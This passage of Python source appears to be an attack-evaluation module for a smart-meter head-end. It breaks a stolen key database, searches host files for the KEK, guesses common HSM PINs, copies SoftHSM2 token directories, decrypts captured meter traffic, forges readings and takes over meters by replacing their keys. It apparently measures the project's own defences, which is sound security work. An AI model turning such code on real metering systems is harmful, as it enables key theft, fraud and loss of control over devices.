            victim, ccc=keys.active(meter, KeyType.CCC), ak=keys.active(meter, KeyType.AK),
            cc_lan=keys.active(meter, KeyType.CC_LAN), headend_title=headend_title, ic=ic,
        ))
    return {
        "meters": len(results),
        "aarq_accepted": sum(r["aarq_accepted"] for r in results),
        "key_transfer_acked": sum(bool(r.get("key_transfer_acked")) for r in results),
        "cc_lan_replaced": sum(bool(r.get("meter_cc_lan_is_attackers")) for r in results),
        "headend_locked_out": sum(bool(r.get("headend_locked_out")) for r in results),
        "model": "ami.machines.meter.Meter built from the store's keys, LAN receive counter at the stored tx_mark",
    }


def with_vault(dump: Dump, vault: Any, frames: list[Frame], *, forge: bool = True,
               takeover: bool = True) -> tuple[dict[str, Any], TrafficResult, Unwrapped]:
    keys = unwrap_dump(dump, vault)
    ring = keys.ring()
    traffic = decrypt_traffic(frames, ring)
    by_state = Counter(st for st, _k in keys.keys.values())
    report: dict[str, Any] = {
        "keys_unwrapped": len(keys.keys),
        "keys_unwrapped_by_state": dict(sorted(by_state.items())),
        "sessions_unwrapped": len(keys.sessions),
        "traffic": traffic.summary(),
    }
    title = headend_title_from(frames)
    if forge:
        report["impersonation"] = asyncio.run(forge_readings(dump, vault, keys, title, max_ic_seen(frames)))
    if takeover:
        report["takeover"] = takeover_all(dump, keys, title)
    return report, traffic, keys


# --- files lying beside the database ------------------------------------------


def host_files(host_dir: Path, dump: Dump, frames: list[Frame], skip: Iterable[Path] = ()) -> dict[str, Any]:
    """What else sits on the head-end host: a KEK file is found by trying every
    16-byte window of every file as the KEK; the factory key file (clear hex)
    is replayed against the capture with no KEK at all."""
    skip = {Path(p).resolve() for p in skip}
    blob = dump.blobs[0] if dump.blobs else None
    found: list[str] = []
    scanned = 0
    for path in sorted(Path(host_dir).rglob("*")):
        if not path.is_file() or path.resolve() in skip or path.stat().st_size > 4 << 20:
            continue
        if path.name.startswith(dump.path.name):
            continue
        scanned += 1
        if blob is not None and kek_search(path.read_bytes(), blob)["hits"]:
            found.append(str(path.relative_to(host_dir)))
    out: dict[str, Any] = {"files_scanned": scanned, "kek_found_in": found}
    factory = Path(host_dir) / FACTORY_FILE
    if factory.exists():
        ring = KeyRing()
        for line in factory.read_text().splitlines():
            if not line.strip():
                continue
            rec = json.loads(line)
            for kt in (KeyType.CCC, KeyType.AK, KeyType.CC_LAN, KeyType.CC_LOCALE):
                ring.add_global(rec["meter"], kt, bytes.fromhex(rec[kt.value]), "factory")
        traffic = decrypt_traffic(frames, ring)
        out["factory_file"] = {"path": FACTORY_FILE, "meters": len(ring.glob), "traffic": traffic.summary()}
    return out


# ==========================================================================
# 4. the HSM case
# ==========================================================================


def _pkcs11_params(spec: str) -> dict[str, str]:
    scheme, _, rest = spec.partition(":")
    if scheme != "pkcs11":
        raise ValueError("--vault must be a pkcs11: spec")
    params = {}
    for item in filter(None, (p.strip() for p in rest.split(";"))):
        k, _, v = item.partition("=")
        params[k.strip()] = v.strip()
    return params


def _with_softhsm_conf(conf: Path | None):
    """Point SoftHSM2 at ``conf`` for the block (it reads SOFTHSM2_CONF at C_Initialize)."""
    from contextlib import contextmanager

    @contextmanager
    def block() -> Iterator[None]:
        previous = os.environ.get("SOFTHSM2_CONF")
        if conf is not None:
            os.environ["SOFTHSM2_CONF"] = str(conf)
        try:
            yield
        finally:
            if previous is None:
                os.environ.pop("SOFTHSM2_CONF", None)
            else:
                os.environ["SOFTHSM2_CONF"] = previous

    return block()


def copy_token_dir(token_dir: Path, dest: Path) -> Path:
    """Copy a SoftHSM2 token directory (what a thief with file access takes)
    and write a softhsm2.conf pointing to the copy."""
    dest.mkdir(parents=True, exist_ok=True)
    shutil.copytree(token_dir, dest / "tokens")
    conf = dest / "softhsm2.conf"
    conf.write_text(f"directories.tokendir = {dest / 'tokens'}\nobjectstore.backend = file\nlog.level = ERROR\n")
    return conf


def hsm_attack(dump: Dump, frames: list[Frame], *, vault_spec: str, token_copy: Path | None,
               pin_guesses: Iterable[str] = ("", "0000", "1234", "123456", "password"),
               live_pin: str | None = None) -> dict[str, Any]:
    """The stolen DB when the KEK is inside a PKCS#11 token.

    ``token_copy``: a copy of the token directory (with its softhsm2.conf),
    used without the PIN.  ``live_pin``: the attacker on the live host with
    the PIN (read from the head-end's environment) can call the token.
    """
    from ami.security.vault import Pkcs11KeyVault, VaultError
    from ami.security.vault.pkcs11 import secret_keys_visible_without_login

    params = _pkcs11_params(vault_spec)
    lib, token, label = params["lib"], params["token"], params.get("label") or "ami-kek"
    report: dict[str, Any] = {}
    at_rest: dict[str, Any] = {"db": kek_search(dump.raw, dump.blobs[0]) if dump.blobs else {"hits": 0}}
    if token_copy is not None:
        conf = Path(token_copy) / "softhsm2.conf"
        data = b"".join(p.read_bytes() for p in sorted(Path(token_copy).rglob("*")) if p.is_file())
        at_rest["token_copy_files"] = kek_search(data, dump.blobs[0]) if dump.blobs else {"hits": 0}
        refused = 0
        guesses = list(pin_guesses)
        with _with_softhsm_conf(conf):
            for guess in guesses:
                try:
                    v = Pkcs11KeyVault(lib, token, guess, label, create=False)
                except VaultError:
                    refused += 1
                    continue
                v.close()
            at_rest["pin_guesses"] = len(guesses)
            at_rest["pin_guesses_refused"] = refused
            at_rest["private_objects_visible_without_login"] = secret_keys_visible_without_login(lib, token)
    kek_hits = sum(v.get("hits", 0) for v in at_rest.values() if isinstance(v, dict))
    pin_found = at_rest.get("pin_guesses", 0) - at_rest.get("pin_guesses_refused", 0)
    at_rest["keys_usable"] = len(dump.blobs) if kek_hits or pin_found else 0
    at_rest["frames_decrypted"] = 0
    report["without_pin"] = at_rest
    if live_pin is not None:
        report["live_host_with_pin"] = _live_use(dump, frames, lib, token, label, live_pin)
        if token_copy is not None:
            with _with_softhsm_conf(Path(token_copy) / "softhsm2.conf"):
                try:
                    v = Pkcs11KeyVault(lib, token, live_pin, label, create=False)
                    try:
                        v.unwrap(dump.blobs[0])
                        report["token_copy_with_pin_unwraps"] = True
                    finally:
                        v.close()
                except VaultError:
                    report["token_copy_with_pin_unwraps"] = False
            report["note"] = ("SoftHSM2 is software: a copy of its token directory plus the PIN is as good as "
                              "the KEK. A hardware HSM's key cannot be copied; only the live PIN session matters.")
    return report


def _live_use(dump: Dump, frames: list[Frame], lib: str, token: str, label: str, pin: str) -> dict[str, Any]:
    from pkcs11 import Attribute, KeyType as P11KeyType, MechanismFlag, PKCS11Error

    from ami.security.vault import Pkcs11KeyVault, VaultError

    vault = Pkcs11KeyVault(lib, token, pin, label, create=False)
    out: dict[str, Any] = {}
    keys = Unwrapped({}, {}, 0)
    try:
        attrs = vault.with_kek(lambda k: {"extractable": bool(k[Attribute.EXTRACTABLE]),
                                          "sensitive": bool(k[Attribute.SENSITIVE]),
                                          "never_extractable": bool(k[Attribute.NEVER_EXTRACTABLE])})
        out["kek_attributes"] = attrs

        def read_value(k: Any) -> str:
            try:
                k[Attribute.VALUE]
                return "read"
            except PKCS11Error as exc:
                return type(exc).__name__

        out["kek_value_read"] = vault.with_kek(read_value)

        def export(k: Any) -> str:
            # Wrap the KEK under a key of the attacker's own: the token refuses.
            wrapper = k.session.generate_key(P11KeyType.AES, 128, store=False,
                                             capabilities=MechanismFlag.WRAP | MechanismFlag.UNWRAP)
            try:
                wrapper.wrap_key(k)
                return "exported"
            except PKCS11Error as exc:
                return type(exc).__name__
            finally:
                wrapper.destroy()

        out["kek_export_by_wrapping"] = vault.with_kek(export)
        report, traffic, keys = with_vault(dump, vault, frames, forge=False, takeover=False)
        out["use"] = {"keys_unwrapped": report["keys_unwrapped"],
                      "frames_decrypted": report["traffic"]["frames_decrypted"],
                      "readings_decrypted": report["traffic"]["readings_decrypted"]}
    finally:
        vault.close()
    try:
        vault.unwrap(dump.blobs[0])
        out["after_access_unwrap"] = "worked"
    except VaultError:
        out["after_access_unwrap"] = "refused"
    # What the attacker still holds once the access is over: not the KEK, but
    # every meter key it had the token unwrap (the head-end unwraps them into
    # its own memory to use them), and they keep working on the capture.
    kept = decrypt_traffic(frames, keys.ring())
    out["after_access"] = {
        "kek_held": False,
        "meter_keys_kept": len(keys.keys) + len(keys.sessions),
        "frames_still_decrypted_with_kept_keys": len(kept.opened),
    }
    return out


# ==========================================================================
# CLI
# ==========================================================================


def add_arguments(parser: argparse.ArgumentParser, config: dict) -> None:
    from ami.runtime.service import add_common_arguments

    sub = parser.add_subparsers(dest="attack_command", required=True)
    cap = sub.add_parser("capture", help="record what a relay or broker operator sees")
    add_common_arguments(cap, config)
    cap.add_argument("--out", type=Path, required=True)
    cap.add_argument("--duration", type=float, default=10.0)
    cap.add_argument("--user", action="append", help="bus user to capture as (repeatable; default anonymous)")

    st = sub.add_parser("store", help="break a stolen head-end database")
    add_common_arguments(st, config)
    st.add_argument("--store", type=Path, required=True, help="the head-end SQLite file")
    st.add_argument("--capture", type=Path, action="append", default=[], help="capture file(s)")
    which = st.add_mutually_exclusive_group()
    which.add_argument("--kek", type=Path, help="the stolen file KEK")
    which.add_argument("--vault", help="a vault spec the attacker can use (pkcs11: on the live host)")
    which.add_argument("--no-kek", action="store_true", help="the database alone (default)")
    st.add_argument("--host-dir", type=Path, help="also search the files beside the database")
    st.add_argument("--report", type=Path, help="write the JSON report here (default stdout)")

    hsm = sub.add_parser("hsm", help="the stolen database when the KEK is in a PKCS#11 token")
    add_common_arguments(hsm, config)
    hsm.add_argument("--store", type=Path, required=True)
    hsm.add_argument("--capture", type=Path, action="append", default=[])
    hsm.add_argument("--vault", required=True, help="pkcs11:lib=...;token=...;label=...;pin_env=...")
    hsm.add_argument("--token-copy", type=Path, help="a copied token dir (see copy_token_dir)")
    hsm.add_argument("--live", action="store_true", help="also use the token with the PIN from pin_env")
    hsm.add_argument("--report", type=Path)


def main(args: argparse.Namespace, config: dict) -> int:
    if args.attack_command == "capture":
        return _capture_main(args)
    if args.attack_command == "store":
        return _store_main(args)
    return _hsm_main(args)


def _capture_main(args: argparse.Namespace) -> int:
    from ami.runtime.service import run_service

    result: dict[str, Any] = {}

    async def service(stop: asyncio.Event) -> int:
        def ready() -> None:
            print(json.dumps({"event": "capturing", "out": str(args.out)}), flush=True)

        result.update(await capture(args.broker, args.data, args.out, duration=args.duration,
                                    users=args.user or [None], stop=stop, ready=ready))
        return 0

    code = run_service(service)
    print(json.dumps({"event": "captured", **result}), flush=True)
    print(f"captured {result.get('frames', 0)} frames in {result.get('messages', 0)} messages; "
          f"{result.get('bodies_decoding_as_plaintext', 0)} of {result.get('ciphered_bodies', 0)} ciphered "
          "bodies decode as plaintext (a relay holds no keys)", file=sys.stderr)
    return code


def store_report(db: Path, captures: list[Path], *, kek: bytes | None = None, vault: Any = None,
                 host_dir: Path | None = None) -> dict[str, Any]:
    frames, _ = frames_from_records(read_captures(captures)) if captures else ([], Counter())
    with tempfile.TemporaryDirectory(prefix="ami-dump-") as tmp:
        dump = read_dump(steal(db, Path(tmp)))
        report: dict[str, Any] = {"capture": {"frames": len(frames)}, "without_kek": without_kek(dump, frames)}
        if kek is not None:
            vault = RawKekVault(kek)
        if vault is not None:
            report["with_kek"], _t, _k = with_vault(dump, vault, frames)
        if host_dir is not None:
            report["host_files"] = host_files(host_dir, dump, frames, skip=[db])
    return report


def _store_main(args: argparse.Namespace) -> int:
    vault = None
    kek = args.kek.read_bytes() if args.kek else None
    if args.vault:
        from ami.security.vault import open_vault

        vault = open_vault(args.vault, data_dir=args.data)
    try:
        report = store_report(args.store, args.capture, kek=kek, vault=vault, host_dir=args.host_dir)
    finally:
        if vault is not None:
            vault.close()
    _emit(report, args.report)
    print(human_summary(report), file=sys.stderr)
    return 0


def _hsm_main(args: argparse.Namespace) -> int:
    frames, _ = frames_from_records(read_captures(args.capture)) if args.capture else ([], Counter())
    pin = None
    if args.live:
        pin_env = _pkcs11_params(args.vault).get("pin_env") or "AMI_HSM_PIN"
        pin = os.environ.get(pin_env)
        if not pin:
            print(f"--live needs the PIN in {pin_env}", file=sys.stderr)
            return 2
    with tempfile.TemporaryDirectory(prefix="ami-dump-") as tmp:
        dump = read_dump(steal(args.store, Path(tmp)))
        report = {"without_kek": without_kek(dump, frames),
                  "hsm": hsm_attack(dump, frames, vault_spec=args.vault, token_copy=args.token_copy,
                                    live_pin=pin)}
    _emit(report, args.report)
    print(human_summary(report), file=sys.stderr)
    return 0


def _emit(report: dict[str, Any], path: Path | None) -> None:
    text = json.dumps(report, indent=1, default=str)
    if path:
        Path(path).write_text(text)
    else:
        print(text)


def human_summary(report: dict[str, Any]) -> str:
    lines = []
    w = report.get("without_kek")
    if w:
        b = w["blobs_as_keys"]
        lines.append(
            f"database alone: {w['meters']} meters, {w['system_titles']} system titles, "
            f"{w['key_rows']} wrapped key rows ({w['expired_key_rows']} expired) and {w['session_rows']} sessions; "
            f"{w['readings_in_clear']} readings IN CLEAR. KEK in the dump: {w['kek_in_dump']['hits']} hits; "
            f"blobs used as keys: {b['tag_verified_frames']} frames verified, "
            f"{b['keystream_decodable']}/{b['keystream_attempts']} keystream attempts decoded."
        )
    k = report.get("with_kek")
    if k:
        t = k["traffic"]
        lines.append(
            f"with the KEK: {k['keys_unwrapped']} keys unwrapped {k['keys_unwrapped_by_state']}, "
            f"{k['sessions_unwrapped']} stored sessions (current or offered); "
            f"{t['session_keys_recovered_from_aarqs']} session keys "
            f"recovered from {t['aarq_total']} captured AARQs; {t['frames_decrypted']}/{t['frames']} frames and "
            f"{t['dc_decrypted']}/{t['dc_total']} DC frames decrypted; {t['readings_decrypted']} readings, "
            f"{t['readings_under_superseded_cc_lan']} of them under a CC_LAN since replaced (no forward secrecy)."
        )
        if "impersonation" in k:
            i = k["impersonation"]
            lines.append(f"impersonation: {i['readings_stored']}/{i['forged_frames']} forged readings accepted by "
                         "a head-end engine loaded from the stolen store.")
        if "takeover" in k:
            o = k["takeover"]
            lines.append(f"takeover: {o['cc_lan_replaced']}/{o['meters']} meters took the attacker's CC_LAN under "
                         f"CCC; the head-end is locked out of {o['headend_locked_out']}.")
    h = report.get("host_files")
    if h:
        lines.append(f"host files: KEK found in {h['kek_found_in'] or 'nothing'}")
        if "factory_file" in h:
            t = h["factory_file"]["traffic"]
            lines.append(f"factory key file beside the database, no KEK needed: {t['frames_decrypted']}/"
                         f"{t['frames']} frames decrypted, {t['keys_learned_from_key_transfers']} new keys "
                         "followed through captured key_transfers (CCC is never reprogrammed).")
    s = report.get("hsm")
    if s:
        r = s["without_pin"]
        lines.append(f"HSM, database + token copy without the PIN: KEK hits {r['db']['hits']}"
                     f"+{r.get('token_copy_files', {}).get('hits', 0)}, PIN guesses refused "
                     f"{r.get('pin_guesses_refused')}/{r.get('pin_guesses')}: nothing usable.")
        live = s.get("live_host_with_pin")
        if live:
            a = live["after_access"]
            lines.append(f"HSM, live host with the PIN: KEK value read -> {live['kek_value_read']}, export -> "
                         f"{live['kek_export_by_wrapping']}; used to unwrap {live['use']['keys_unwrapped']} keys "
                         f"and decrypt {live['use']['frames_decrypted']} frames; after access: unwrap "
                         f"{live['after_access_unwrap']}, KEK held: {a['kek_held']}, but {a['meter_keys_kept']} "
                         f"meter keys kept still decrypt {a['frames_still_decrypted_with_kept_keys']} frames.")
    return "\n".join(lines)


if __name__ == "__main__":  # pragma: no cover - `python -m ami.attack ...` until ami/cli.py lists it
    from ami.runtime.config import load_config

    _config = load_config()
    _parser = argparse.ArgumentParser(prog="ami attack", description=__doc__.splitlines()[0])
    add_arguments(_parser, _config)
    sys.exit(main(_parser.parse_args(), _config))
